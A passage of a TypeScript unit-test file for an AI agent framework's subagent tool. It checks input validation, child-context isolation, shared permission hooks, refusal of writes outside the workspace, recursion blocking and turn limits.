import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { z } from "zod";
import { NodeWorkspaceFileSystem } from "../src/adapters/filesystem.js";
import type { WorkspaceFileSystem } from "../src/core/filesystem.js";
import { HookRegistry, HookResult, type HookContext } from "../src/core/hooks.js";
import { AgentRunner, HookRunError, type RunResult } from "../src/core/loop.js";
import { assistantMessage, validateToolPairing, type ChatMessage, type ToolCall } from "../src/core/messages.js";
import type { ModelReply, ModelRequest } from "../src/core/model.js";
import {
  PermissionDecision,
  PermissionPolicy,
  PermissionRule,
  type ApprovalProvider,
  type AuditSink,
  type PermissionRequest,
} from "../src/core/permissions.js";
import { toolError, toolSuccess, ToolRegistry, type ToolContext, type ToolResult } from "../src/core/tools.js";
import { createChapterTwoTools } from "../src/features/builtin-tools.js";
import {
  DEFAULT_SUBAGENT_MAX_TURNS,
  DEFAULT_SUBAGENT_SYSTEM_PROMPT,
  MAX_SUBAGENT_ANSWER_BYTES,
  MAX_SUBAGENT_RUNS,
  SubagentTool,
  TASK_TOOL_NAME,
  type SubagentToolOptions,
} from "../src/features/subagents.js";
import { TODO_STALE_REMINDER, TodoTracker } from "../src/features/todos.js";
import { FakeCommandRunner } from "./support/fakes.js";
import { call, ScriptedModel, textTurn, toolMessages, toolTurn } from "./support/scripted-model.js";

// The chapter 6 domain gate: SubagentTool and AgentRunner built by hand, with a real ToolRegistry, HookRegistry,
// PermissionPolicy and a temporary disk. Only the model, the shell and the human are scripted. One scripted model
// serves parent and child in call order, as buildAgent's modelFactory does; a request is the child's when its
// system message is the subagent prompt. Describe titles name CH06.md's rule numbers.

const PARENT_PROMPT = "You are the parent agent of a unit test.";
const ASK_WRITE = "File writes require explicit approval from chapter 3 onward";
const PASSED = "No permission rule blocked the request";
const INVALID = "Error [invalid_arguments]: Invalid arguments for task: ";
const EXECUTION_FAILED = "Error [subagent_execution_error]: Subagent execution failed";
const MUST_NOT_INCLUDE_TASK = "Error [subagent_configuration_error]: Subagent tools must not include task";
const NOT_A_REGISTRY = "Error [subagent_configuration_error]: Subagent tools factory must return ToolRegistry";
const NOT_A_MODEL = "Error [subagent_configuration_error]: Subagent model factory must return ModelClient";
const UNKNOWN_TASK = "Error [unknown_tool]: Unknown tool: task";
const INVALID_UPDATE = "Error [hook_contract_error]: PreToolUse hook returned an invalid update";
const POST_FAILED = "Error [hook_execution_error]: PostToolUse hook failed";
const LIMIT_REACHED = "Error [subagent_limit]: At most 20 subagents run per session; this task did not run.";
/** What a provider might put in an error: a key and a local path, neither of which the model may read. */
const SECRET_KEY = "sk-test-secret";
const SECRET_PATH = "/home/alice/.config/agent/.env";
const LEAKY_ERROR = `401 Unauthorized: key ${SECRET_KEY} rejected (read from ${SECRET_PATH})`;
const TASK_PARAMETERS = {
  $schema: "https://json-schema.org/draft/2020-12/schema",
  type: "object",
  properties: {
    description: {
      description: "A self-contained task for the subagent to complete.",
      type: "string",
      minLength: 1,
    },
  },
  required: ["description"],
  additionalProperties: false,
};

const strictEmpty = z.strictObject({});

let root: string;
let workspace: string;
/** Hooks, policy, approver and disk write here, so one array shows the order across parent and child. */
let log: string[];

beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), "ch06-subagents-")));
  // One level down, so a child's ../outside.txt still lands in the temp folder.
  workspace = join(root, "workspace");
  await mkdir(workspace);
  await writeFile(join(workspace, "README.md"), "# Demo\n", "utf8");
  log = [];
});

afterEach(async () => {
  vi.restoreAllMocks();
  await rm(root, { recursive: true, force: true });
});

/** The real disk, noting each file operation a handler makes; the boundary question is the policy's, not noted. */
class LoggingFileSystem implements WorkspaceFileSystem {
  readonly #real = new NodeWorkspaceFileSystem();

  readFile(at: string, path: string, limit?: number): Promise<string> {
    log.push(`handler:read ${path}`);
    return this.#real.readFile(at, path, limit);
  }

  writeFile(at: string, path: string, content: string): Promise<number> {
    log.push(`handler:write ${path}`);
    return this.#real.writeFile(at, path, content);
  }

  editFile(at: string, path: string, oldText: string, newText: string): Promise<void> {
    log.push(`handler:edit ${path}`);
    return this.#real.editFile(at, path, oldText, newText);
  }

  globFiles(at: string, pattern: string): Promise<readonly string[]> {
    log.push(`handler:glob ${pattern}`);
    return this.#real.globFiles(at, pattern);
  }

  isPathWithinWorkspace(at: string, path: string): Promise<boolean> {
    return this.#real.isPathWithinWorkspace(at, path);
  }
}

/**
 * The human, as the book's test sees it (`requests` holds PermissionRequests). It stays open across a few
 * microtasks, so two questions asked at once would show as `maxOpen` 2.
 */
class RecordingApproval implements ApprovalProvider {
  readonly requests: PermissionRequest[] = [];
  maxOpen = 0;
  #open = 0;

  constructor(private readonly approve: boolean) {}

  async decide(request: PermissionRequest): Promise<PermissionDecision> {
    this.requests.push(request);
    log.push(`approval:${request.toolName}`);
    this.#open += 1;
    this.maxOpen = Math.max(this.maxOpen, this.#open);
    for (let tick = 0; tick < 5; tick += 1) await Promise.resolve();
    this.#open -= 1;
    return this.approve
      ? new PermissionDecision("allow", "Approved in the test", "user")
      : new PermissionDecision("deny", "The tester said no", "user");
  }
}

interface AuditRecord {
  readonly tool: string;
  readonly decision: PermissionDecision;
  readonly request: PermissionRequest;
}

/** Every final decision, with the book's field names. */
class RecordingAudit implements AuditSink {
  readonly records: AuditRecord[] = [];

  record(request: PermissionRequest, decision: PermissionDecision): void {
    this.records.push({ tool: request.toolName, decision, request });
    log.push(`audit:${request.toolName} ${decision.behavior}`);
  }
}

/** A scripted model whose script may also hold errors: an Error entry is a provider call that rejects with it. */
class SharedModel extends ScriptedModel {
  constructor(private readonly script: readonly (ModelReply | Error)[]) {
    super(script.map((entry) => (entry instanceof Error ? textTurn("never seen") : entry)));
  }

  override async complete(request: ModelRequest): Promise<ModelReply> {
    const entry = this.script[this.requests.length];
    const reply = await super.complete(request);
    if (entry instanceof Error) throw entry;
    return reply;
  }
}

interface HarnessOptions {
  readonly hooks?: HookRegistry;
  readonly approve?: boolean;
  readonly identity?: string;
  readonly maxTurns?: number;
  /** Replaces the child registry factory; given the parent's registry (experiment 2). */
  readonly toolsFactory?: (parentTools: ToolRegistry) => unknown;
  /** Replaces what the model factory hands back. */
  readonly modelFactory?: (model: SharedModel) => unknown;
  readonly onFailure?: (error: unknown) => void;
}

interface Harness {
  readonly model: SharedModel;
  readonly runner: AgentRunner;
  readonly subagent: SubagentTool;
  readonly approval: RecordingApproval;
  readonly audit: RecordingAudit;
  readonly parentTracker: TodoTracker;
  readonly childRegistries: ToolRegistry[];
  readonly childTrackers: TodoTracker[];
  readonly factoryCalls: { model: number; tools: number };
}

/** Chapter 5's write rule, rebuilt here: a real rule, so a child's write asks the same human as a parent's. */
const confirmFileWrite = new PermissionRule({
  name: "confirm-file-write",
  behavior: "ask",
  reason: ASK_WRITE,
  matches: (request) => ["write_file", "edit_file"].includes(request.prepared.definition.name),
});

/**
 * A parent with chapter 5's tools, its TodoTracker as observer, and `task`; each child gets chapter 5's tools with
 * a tracker that observes nothing, as bootstrap's createStandardTools(...).tools gives it.
 */
function harness(script: readonly (ModelReply | Error)[], options: HarnessOptions = {}): Harness {
  const model = new SharedModel(script);
  const fileSystem = new LoggingFileSystem();
  const shell = new FakeCommandRunner();
  const approval = new RecordingApproval(options.approve ?? true);
  const audit = new RecordingAudit();
  const permissionPolicy = new PermissionPolicy({
    rules: [confirmFileWrite],
    approval,
    audit,
    writeBoundary: fileSystem,
  });
  const hooks = options.hooks ?? new HookRegistry();
  const parentTools = createChapterTwoTools(shell, fileSystem);
  const parentTracker = new TodoTracker();
  parentTools.register(parentTracker.toolDefinition);
  const factoryCalls = { model: 0, tools: 0 };
  const childRegistries: ToolRegistry[] = [];
  const childTrackers: TodoTracker[] = [];
  const subagent = new SubagentTool({
    modelFactory: () => {
      factoryCalls.model += 1;
      return (options.modelFactory === undefined ? model : options.modelFactory(model)) as SharedModel;
    },
    toolsFactory: () => {
      factoryCalls.tools += 1;
      if (options.toolsFactory !== undefined) return options.toolsFactory(parentTools) as ToolRegistry;
      const tools = createChapterTwoTools(shell, fileSystem);
      const tracker = new TodoTracker();
      tools.register(tracker.toolDefinition);
      childRegistries.push(tools);
      childTrackers.push(tracker);
      return tools;
    },
    hooks,
    permissionPolicy,
    ...(options.maxTurns === undefined ? {} : { maxTurns: options.maxTurns }),
    ...(options.onFailure === undefined ? {} : { onFailure: options.onFailure }),
  });
  parentTools.register(subagent.toolDefinition);
  const runner = new AgentRunner({
    model,
    tools: parentTools,
    systemPrompt: PARENT_PROMPT,
    workspace,
    hooks,
    permissionPolicy,
    toolRoundObserver: parentTracker,
    ...(options.identity === undefined ? {} : { identity: options.identity }),
  });
  return { model, runner, subagent, approval, audit, parentTracker, childRegistries, childTrackers, factoryCalls };
}

/** Runs the parent; the parent history and every request sent, parent's and child's, must be paired. */
async function runParent(h: Harness, prompt = "delegate"): Promise<RunResult> {
  const result = await h.runner.run(prompt);
  validateToolPairing(result.history);
  for (const request of h.model.requests) validateToolPairing(request.messages);
  return result;
}

const isChildRequest = (request: ModelRequest): boolean =>
  request.messages[0]?.content === DEFAULT_SUBAGENT_SYSTEM_PROMPT;
const childRequests = (model: ScriptedModel): ModelRequest[] => model.requests.filter(isChildRequest);
const parentRequests = (model: ScriptedModel): ModelRequest[] =>
  model.requests.filter((request) => !isChildRequest(request));
const toolNames = (request: ModelRequest | undefined): string[] =>
  request?.tools.map((tool) => tool.function.name) ?? [];
const isReminder = (message: ChatMessage): boolean =>
  message.role === "system" && message.content === TODO_STALE_REMINDER;

const task = (id: string, description: unknown): ToolCall => call(id, "task", { description });
const read = (id: string, path = "README.md"): ToolCall => call(id, "read_file", { path });
const write = (id: string, path: string, content: string): ToolCall => call(id, "write_file", { path, content });

/** A child's first request, as rule 3 pins it. */
const freshChild = (description: string): ChatMessage[] => [
  { role: "system", content: DEFAULT_SUBAGENT_SYSTEM_PROMPT },
  { role: "user", content: description },
];

/** The user message a child run starts with: how a shared hook tells the child's events from the parent's. */
const childRunOf = (context: HookContext, description: string): boolean =>
  context.message?.content === description || context.history?.[0]?.content === description;

/** A registry whose callbacks note every event in `log`, so one array shows parent and child interleaved. */
function recordingHooks(): HookRegistry {
  const registry = new HookRegistry();
  registry.register("UserPromptSubmit", (context) => {
    log.push(`prompt:${context.message?.content ?? "?"}`);
    return new HookResult();
  });
  registry.register("PreToolUse", (context) => {
    log.push(`pre:${context.prepared?.call.name ?? "?"} ${context.prepared?.call.id ?? "?"}`);
    return new HookResult();
  });
  registry.register("PostToolUse", (context) => {
    log.push(`post:${context.prepared?.call.name ?? "?"} ${context.result?.isError === true ? "error" : "ok"}`);
    return new HookResult();
  });
  registry.register("Stop", () => {
    log.push("stop");
    return new HookResult();
  });
  return registry;
}

/** The results `task` itself returned, as its PostToolUse saw them (the history keeps only the content). */
function taskResults(registry: HookRegistry): ToolResult[] {
  const results: ToolResult[] = [];
  registry.register("PostToolUse", (context) => {
    if (context.prepared?.call.name === TASK_TOOL_NAME && context.result !== undefined) results.push(context.result);
    return new HookResult();
  });
  return results;
}

/** The text of everything the parent kept or sent: a secret in none of it never reached the parent's model. */
const parentSaw = (h: Harness, result: RunResult): string => JSON.stringify([result.history, parentRequests(h.model)]);

describe("rule 2: strict input, refused before the handler", () => {
  test("task's face: the book's name, description, external effect, and the exact JSON Schema the model sees", () => {
    const h = harness([]);
    const { name, description, effect } = h.subagent.toolDefinition;
    expect({ name, description, effect }).toEqual({
      name: "task",
      description: "Launch an isolated subagent and return only its final conclusion.",
      effect: "external",
    });
    expect(Object.isFrozen(h.subagent.toolDefinition)).toBe(true);
    const registry = new ToolRegistry();
    registry.register(h.subagent.toolDefinition);
    expect(JSON.stringify(registry.openAITools()[0]?.function.parameters)).toBe(JSON.stringify(TASK_PARAMETERS));
  });

  test.each<[string, string, string]>([
    [
      "an empty description",
      '{"description":""}',
      `${INVALID}description: Too small: expected string to have >=1 characters`,
    ],
    [
      "a blank description",
      '{"description":" \\t\\n "}',
      `${INVALID}description: Too small: expected string to have >=1 characters`,
    ],
    ["a missing description", "{}", `${INVALID}description: Invalid input: expected string, received undefined`],
    ["a number", '{"description":7}', `${INVALID}description: Invalid input: expected string, received number`],
    [
      "a nested object",
      '{"description":{"text":"x"}}',
      `${INVALID}description: Invalid input: expected string, received object`,
    ],
    [
      "an extra key",
      '{"description":"read README.md","extra":true}',
      `${INVALID}(arguments): Unrecognized key: "extra"`,
    ],
    ["text that is not JSON", "read README.md", "Error [invalid_json]: Arguments of task must be a JSON object"],
  ])("%s: the exact error, no factory called, no hook, no audit, no child request", async (_name, args, expected) => {
    const hooks = recordingHooks();
    const h = harness([toolTurn(call("bad", "task", args)), textTurn("parent final")], { hooks });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["bad", expected]]);
    expect(h.factoryCalls).toEqual({ model: 0, tools: 0 });
    expect(childRequests(h.model)).toEqual([]);
    expect(h.audit.records).toEqual([]);
    expect(log).toEqual(["prompt:delegate", "stop"]);
    h.model.assertExhausted();
  });

  test("a padded description reaches the child trimmed", async () => {
    const h = harness([
      toolTurn(task("parent-task", " \t write child.txt with evidence \n")),
      textTurn("child conclusion"),
      textTurn("parent final"),
    ]);
    await runParent(h);
    expect(childRequests(h.model)[0]?.messages).toEqual(freshChild("write child.txt with evidence"));
    h.model.assertExhausted();
  });

  test("a PreToolUse rewrite of description is validated and trimmed again, and the child gets the new text", async () => {
    const hooks = new HookRegistry();
    hooks.register("PreToolUse", (context) => {
      const prepared = context.prepared;
      if (prepared?.call.name !== TASK_TOOL_NAME) return new HookResult();
      return new HookResult({ updatedInput: { ...prepared, arguments: { description: "  rewritten job  " } } });
    });
    const h = harness([toolTurn(task("t", "original job")), textTurn("rewritten done"), textTurn("final")], { hooks });
    const result = await runParent(h);

    expect(childRequests(h.model)[0]?.messages).toEqual(freshChild("rewritten job"));
    for (const request of childRequests(h.model)) expect(JSON.stringify(request)).not.toContain("original job");
    expect(toolMessages(result.history)).toEqual([["t", "rewritten done"]]);
    h.model.assertExhausted();
  });

  test("a PreToolUse rewrite to a blank description is an invalid update, and no factory runs", async () => {
    const hooks = new HookRegistry();
    hooks.register("PreToolUse", (context) => {
      const prepared = context.prepared;
      if (prepared === undefined) return new HookResult();
      return new HookResult({ updatedInput: { ...prepared, arguments: { description: "   " } } });
    });
    const h = harness([toolTurn(task("t", "original job")), textTurn("final")], { hooks });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["t", INVALID_UPDATE]]);
    expect(h.factoryCalls).toEqual({ model: 0, tools: 0 });
    expect(childRequests(h.model)).toEqual([]);
    h.model.assertExhausted();
  });
});

describe("rules 3 and 4: a fresh child, a clean parent history", () => {
  test("the child's first request is exactly [subagent prompt, trimmed description]; the parent keeps exactly four messages", async () => {
    const parentCall = task("parent-task", " write child.txt with evidence ");
    const h = harness([
      toolTurn(parentCall),
      toolTurn(write("child-write", "child.txt", "child evidence")),
      textTurn("child conclusion"),
      textTurn("parent final"),
    ]);
    const result = await runParent(h, "delegate the write");

    expect(await readFile(join(workspace, "child.txt"), "utf8")).toBe("child evidence");
    expect(toolNames(h.model.requests[0])).toEqual([
      "shell",
      "read_file",
      "write_file",
      "edit_file",
      "glob",
      "todo_write",
      "task",
    ]);
    expect(toolNames(h.model.requests[1])).toEqual([
      "shell",
      "read_file",
      "write_file",
      "edit_file",
      "glob",
      "todo_write",
    ]);
    expect(h.model.requests[1]?.messages).toEqual(freshChild("write child.txt with evidence"));
    expect(result.history).toEqual([
      { role: "user", content: "delegate the write" },
      assistantMessage(null, [parentCall]),
      { role: "tool", content: "child conclusion", toolCallId: "parent-task" },
      assistantMessage("parent final"),
    ]);
    expect(h.model.requests).toHaveLength(4);
    h.model.assertExhausted();
  });

  test("a custom systemPrompt is the child's system message, and the parent's prompt never reaches the child", async () => {
    const model = new SharedModel([textTurn("custom done")]);
    const subagent = new SubagentTool({
      modelFactory: () => model,
      toolsFactory: () => new ToolRegistry(),
      hooks: new HookRegistry(),
      permissionPolicy: new PermissionPolicy(),
      systemPrompt: "Only answer.",
    });
    const registry = new ToolRegistry();
    registry.register(subagent.toolDefinition);
    const prepared = registry.prepare(task("t", "say hi"));
    if (prepared.error !== undefined) throw new Error(prepared.error.content);
    const result = await registry.invoke(prepared, { workspace, identity: "user" });

    expect(result).toEqual({ content: "custom done", isError: false });
    expect(model.requests[0]?.messages).toEqual([
      { role: "system", content: "Only answer." },
      { role: "user", content: "say hi" },
    ]);
    model.assertExhausted();
  });

  test("experiment 3: a SECRET the parent read appears in no child request; the child must read for itself", async () => {
    await writeFile(join(workspace, "note.txt"), "SECRET launch code 0000\n", "utf8");
    const h = harness([
      toolTurn(read("parent-read", "note.txt")),
      toolTurn(task("delegate", "Tell me what note.txt says, only from what you read yourself")),
      textTurn("I have not read note.txt, so I cannot say."),
      textTurn("parent final"),
    ]);
    const result = await runParent(h);

    // The parent's own next request holds it: the check below could fail.
    expect(JSON.stringify(parentRequests(h.model)[1]?.messages)).toContain("SECRET");
    const children = childRequests(h.model);
    expect(children).toHaveLength(1);
    expect(children[0]?.messages[1]?.content).not.toContain("SECRET");
    for (const request of children) expect(JSON.stringify(request)).not.toContain("SECRET");
    expect(toolMessages(result.history)).toEqual([
      ["parent-read", "SECRET launch code 0000\n"],
      ["delegate", "I have not read note.txt, so I cannot say."],
    ]);
    h.model.assertExhausted();
  });
});

describe("rule 5: fresh per call", () => {
  test("two tasks in two replies: two factory calls each, two registries, three runners; child 1's plan reaches nobody", async () => {
    const run = vi.spyOn(AgentRunner.prototype, "run");
    const h = harness([
      toolTurn(task("task-1", "first job")),
      toolTurn(call("plan", "todo_write", { todos: [{ content: "child plan", status: "in_progress" }] })),
      textTurn("first done"),
      toolTurn(task("task-2", "second job")),
      textTurn("second done"),
      textTurn("parent final"),
    ]);
    const parentTodos = h.parentTracker.todos;
    const result = await runParent(h);

    expect(h.factoryCalls).toEqual({ model: 2, tools: 2 });
    expect(h.childRegistries).toHaveLength(2);
    expect(h.childRegistries[0]).not.toBe(h.childRegistries[1]);
    expect(new Set(run.mock.contexts).size).toBe(3);
    expect(run.mock.calls).toEqual([["delegate"], ["first job"], ["second job"]]);
    const children = childRequests(h.model);
    expect(children).toHaveLength(3);
    expect(children[0]?.messages).toEqual(freshChild("first job"));
    expect(children[2]?.messages).toEqual(freshChild("second job"));
    expect(h.childTrackers[0]?.todos).toEqual([{ content: "child plan", status: "in_progress" }]);
    expect(h.childTrackers[1]?.todos).toEqual([]);
    expect(h.parentTracker.todos).toBe(parentTodos);
    expect(h.parentTracker.todos).toEqual([]);
    expect(toolMessages(result.history)).toEqual([
      ["task-1", "first done"],
      ["task-2", "second done"],
    ]);
    h.model.assertExhausted();
  });
});

describe("rule 6: shared hooks, policy, workspace and identity", () => {
  test("one registry and one policy see every child call, in the order Pre → policy → handler → Post; the parent reads the child's file", async () => {
    const hooks = recordingHooks();
    const h = harness(
      [
        toolTurn(task("job", "read README.md and write child.txt")),
        toolTurn(read("child-read")),
        toolTurn(write("child-write", "child.txt", "child evidence")),
        textTurn("child done"),
        toolTurn(read("parent-read", "child.txt")),
        textTurn("parent final"),
      ],
      { hooks, identity: "alice" },
    );
    const result = await runParent(h);

    expect(log).toEqual([
      "prompt:delegate",
      "pre:task job",
      "audit:task allow",
      "prompt:read README.md and write child.txt",
      "pre:read_file child-read",
      "audit:read_file allow",
      "handler:read README.md",
      "post:read_file ok",
      "pre:write_file child-write",
      "approval:write_file",
      "audit:write_file allow",
      "handler:write child.txt",
      "post:write_file ok",
      "stop",
      "post:task ok",
      "pre:read_file parent-read",
      "audit:read_file allow",
      "handler:read child.txt",
      "post:read_file ok",
      "stop",
    ]);
    expect(h.audit.records.map((record) => [record.tool, record.decision.behavior])).toEqual([
      ["task", "allow"],
      ["read_file", "allow"],
      ["write_file", "allow"],
      ["read_file", "allow"],
    ]);
    expect(toolMessages(result.history)).toEqual([
      ["job", "child done"],
      ["parent-read", "child evidence"],
    ]);
    h.model.assertExhausted();
  });

  test('identity "alice" set on the parent runner is the context of every child PermissionRequest, the approver\'s too', async () => {
    const h = harness(
      [
        toolTurn(task("job", "read and write")),
        toolTurn(read("child-read"), write("child-write", "child.txt", "x")),
        textTurn("child done"),
        textTurn("parent final"),
      ],
      { identity: "alice" },
    );
    await runParent(h);

    expect(h.audit.records.map((record) => record.tool)).toEqual(["task", "read_file", "write_file"]);
    for (const record of h.audit.records) {
      expect(record.request.context).toEqual({ workspace, identity: "alice" });
    }
    expect(h.approval.requests).toHaveLength(1);
    expect(h.approval.requests[0]?.toolName).toBe("write_file");
    expect(h.approval.requests[0]?.proposedDecision?.reason).toBe(ASK_WRITE);
    expect(h.approval.requests[0]?.context).toEqual({ workspace, identity: "alice" });
    h.model.assertExhausted();
  });

  test("UserPromptSubmit and Stop run once per child run: two children make three of each with the parent's", async () => {
    const hooks = recordingHooks();
    const h = harness(
      [
        toolTurn(task("one", "job one")),
        textTurn("one done"),
        toolTurn(task("two", "job two")),
        textTurn("two done"),
        textTurn("parent final"),
      ],
      { hooks },
    );
    await runParent(h);

    expect(log.filter((line) => line.startsWith("prompt:") || line === "stop")).toEqual([
      "prompt:delegate",
      "prompt:job one",
      "stop",
      "prompt:job two",
      "stop",
      "stop",
    ]);
    h.model.assertExhausted();
  });
});

describe("rules 8 and 14: the child's writes ask like the parent's, and the boundary refuses first", () => {
  test("an always-allow approver is never asked for ../outside.txt: denied before the child's handler, the file untouched", async () => {
    const outside = join(root, "outside.txt");
    await writeFile(outside, "sentinel", "utf8");
    const h = harness([
      toolTurn(task("job", "write outside")),
      toolTurn(write("outside-write", "../outside.txt", "escaped")),
      textTurn("could not write"),
      textTurn("parent final"),
    ]);
    await runParent(h);

    expect(await readFile(outside, "utf8")).toBe("sentinel");
    expect(h.approval.requests).toEqual([]);
    expect(h.audit.records.map((record) => [record.tool, record.decision.behavior])).toEqual([
      ["task", "allow"],
      ["write_file", "deny"],
    ]);
    expect(log.filter((line) => line.startsWith("handler:"))).toEqual([]);
    expect(h.model.requests[2]?.messages.at(-1)).toEqual({
      role: "tool",
      content: "Error [permission_denied]: Writing outside the workspace is forbidden",
      toolCallId: "outside-write",
    });
    h.model.assertExhausted();
  });

  test("a child's write inside the workspace asks the same approver once, with chapter 3's reason and no child marker", async () => {
    const h = harness([
      toolTurn(task("job", "write inside")),
      toolTurn(write("inside-write", "inside.txt", "inside")),
      textTurn("written"),
      toolTurn(write("parent-write", "parent.txt", "parent")),
      textTurn("parent final"),
    ]);
    await runParent(h);

    expect(h.approval.requests.map((request) => request.prepared.call.id)).toEqual(["inside-write", "parent-write"]);
    const [child, parent] = h.approval.requests;
    expect(child?.proposedDecision).toEqual(new PermissionDecision("ask", ASK_WRITE, "confirm-file-write"));
    expect(parent?.proposedDecision).toEqual(child?.proposedDecision);
    expect(child?.context).toEqual(parent?.context);
    expect(child?.recommendations).toEqual(parent?.recommendations);
    expect(await readFile(join(workspace, "inside.txt"), "utf8")).toBe("inside");
    h.model.assertExhausted();
  });
});

describe("rule 9: recursion is stopped in three places", () => {
  test("a child calling task gets unknown_tool, with no hook, no policy and no grandchild", async () => {
    const hooks = recordingHooks();
    const h = harness(
      [
        toolTurn(task("job", "try to delegate")),
        toolTurn(task("child-task", "one level deeper")),
        textTurn("cannot delegate"),
        textTurn("parent final"),
      ],
      { hooks },
    );
    const result = await runParent(h);

    const children = childRequests(h.model);
    expect(children).toHaveLength(2);
    for (const request of children) expect(toolNames(request)).not.toContain("task");
    expect(children[1]?.messages.at(-1)).toEqual({ role: "tool", content: UNKNOWN_TASK, toolCallId: "child-task" });
    expect(log.filter((line) => line.startsWith("pre:") || line.startsWith("post:"))).toEqual([
      "pre:task job",
      "post:task ok",
    ]);
    expect(h.audit.records.map((record) => record.tool)).toEqual(["task"]);
    expect(h.factoryCalls).toEqual({ model: 1, tools: 1 });
    expect(toolMessages(result.history)).toEqual([["job", "cannot delegate"]]);
    h.model.assertExhausted();
  });

  test("experiment 2: toolsFactory returning the parent's registry is refused before any model call", async () => {
    const h = harness([toolTurn(task("job", "anything")), textTurn("parent final")], {
      toolsFactory: (parentTools) => parentTools,
    });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", MUST_NOT_INCLUDE_TASK]]);
    expect(h.factoryCalls).toEqual({ model: 0, tools: 1 });
    expect(childRequests(h.model)).toEqual([]);
    expect(h.model.requests).toHaveLength(2);
    h.model.assertExhausted();
  });

  test("a factory registry holding any tool named task is refused the same way: the check is by name", async () => {
    const h = harness([toolTurn(task("job", "anything")), textTurn("parent final")], {
      toolsFactory: () => {
        const tools = new ToolRegistry();
        tools.register({
          name: TASK_TOOL_NAME,
          description: "A lookalike of the parent's task.",
          inputSchema: strictEmpty,
          effect: "read",
          handler: () => Promise.resolve(toolSuccess("never run")),
        });
        return tools;
      },
    });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", MUST_NOT_INCLUDE_TASK]]);
    expect(h.factoryCalls).toEqual({ model: 0, tools: 1 });
    expect(childRequests(h.model)).toEqual([]);
    h.model.assertExhausted();
  });

  test.each<[string, unknown]>([
    ["a lookalike object", { names: [], prepare: () => undefined }],
    ["undefined", undefined],
  ])("a tools factory returning %s is a configuration error, with no model factory call", async (_name, value) => {
    const h = harness([toolTurn(task("job", "anything")), textTurn("parent final")], { toolsFactory: () => value });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", NOT_A_REGISTRY]]);
    expect(h.factoryCalls).toEqual({ model: 0, tools: 1 });
    expect(childRequests(h.model)).toEqual([]);
    h.model.assertExhausted();
  });

  test.each<[string, unknown]>([
    ["an empty object", {}],
    ["an object whose complete is not a function", { complete: "yes" }],
    ["null", null],
  ])("a model factory returning %s is a configuration error, and no child request is made", async (_name, value) => {
    const h = harness([toolTurn(task("job", "anything")), textTurn("parent final")], { modelFactory: () => value });
    const result = await runParent(h);

    expect(toolMessages(result.history)).toEqual([["job", NOT_A_MODEL]]);
    expect(h.factoryCalls).toEqual({ model: 1, tools: 1 });
    expect(childRequests(h.model)).toEqual([]);
    expect(h.model.requests).toHaveLength(2);
    h.model.assertExhausted();
  });

  test("a PreToolUse hook cannot rename a child call into task", async () => {
    const hooks = new HookRegistry();
    hooks.register("PreToolUse", (context) => {
      const prepared = context.prepared;
      if (prepared?.call.name !== "read_file") return new HookResult();
      return new HookResult({ updatedInput: { ...prepared, call: { ...prepared.call, name: TASK_TOOL_NAME } } });
    });
    const h = harness(
      [toolTurn(task("job", "read")), toolTurn(read("child-read")), textTurn("child done"), textTurn("final")],
      { hooks },
    );
    await runParent(h);

    expect(childRequests(h.model)[1]?.messages.at(-1)).toEqual({
      role: "tool",
      content: INVALID_UPDATE,
      toolCallId: "child-read",
    });
    expect(h.factoryCalls).toEqual({ model: 1, tools: 1 });
    h.model.assertExhausted();
  });
});

describe("rule 10: the turn cap", () => {
  test("maxTurns 2: exactly two child requests, the exact error, and the child's last output nowhere in the parent", async () => {
    await writeFile(join(workspace, "first.txt"), "FIRST CHILD OUTPUT\n", "utf8");
    await writeFile(join(workspace, "last.txt"), "LAST CHILD OUTPUT\n", "utf8");
    const hooks = new HookRegistry();
    const results = taskResults(hooks);
    const h = harness(
      [
        toolTurn(task("job", "loop")),
        toolTurn(read("c1", "first.txt")),
        toolTurn(read("c2", "last.txt")),
        textTurn("parent final"),
      ],
      { hooks, maxTurns: 2 },
    );
    const result = await runParent(h);

    const expected = "Error [subagent_turn_limit]: Subagent exceeded max_turns=2 without a final answer";
    expect(childRequests(h.model)).toHaveLength(2);
    expect(results).toEqual([{ content: expected, isError: true, errorCode: "subagent_turn_limit" }]);
    expect(toolMessages(result.history)).toEqual([["job", expected]]);
    expect(parentSaw(h, result)).not.toContain("LAST CHILD OUTPUT");
    expect(parentSaw(h, result)).not.toContain("FIRST CHILD OUTPUT");
    h.model.assertExhausted();
  });

  test("a child whose conversation outgrows its byte budget is an execution error, not the turn cap", async () => {
    // Two replies of 33 MiB arguments each: before its third request the child is past MAX_CONVERSATION_BYTES.
    const huge = "x".repeat(33 * 1024 * 1024);
    const h = harness([
      toolTurn(task("job", "grow")),
      toolTurn(call("g1", "read_file", huge)),
      toolTurn(call("g2", "read_file", huge)),
      textTurn("parent final"),
    ]);
    const result = await runParent(h);
    expect(toolMessages(result.history)).toEqual([
      ["job", "Error [subagent_execution_error]: Subagent execution failed"],
    ]);
    expect(childRequests(h.model)).toHaveLength(2);
    h.model.assertExhausted();
  });

  test("a Stop hook forcing a continuation on the child's last turn gives the same error", async () => {
    const hooks = new HookRegistry();
    hooks.register("Stop", (context) =>
      childRunOf(context, "answer early")
        ? new HookResult({ forceContinue: { role: "user", content: "keep going" } })
        : new HookResult(),
    );
    const h = harness(
      [toolTurn(task("job", "answer early")), toolTurn(read("c1")), textTurn("premature answer"), textTurn("final")],
      { hooks, maxTurns: 2 },
    );
    const result = await runParent(h);

    expect(childRequests(h.model)).toHaveLength(2);
    expect(toolMessages(result.history)).toEqual([
      ["job", "Error [subagent_turn_limit]: Subagent exceeded max_turns=2 without a final answer"],
    ]);
    expect(parentSaw(h, result)).not.toContain("premature answer");
    h.model.assertExhausted();
  });

  test("the default cap is 30: thirty child requests, then max_turns=30", async () => {
    const h = harness([
      toolTurn(task("job", "never finish")),
      ...Array.from({ length: DEFAULT_SUBAGENT_MAX_TURNS }, (_, index) => toolTurn(read(`c${index + 1}`))),
      textTurn("parent final"),
    ]);
    const result = await runParent(h);

    expect(DEFAULT_SUBAGENT_MAX_TURNS).toBe(30);
    expect(childRequests(h.model)).toHaveLength(30);
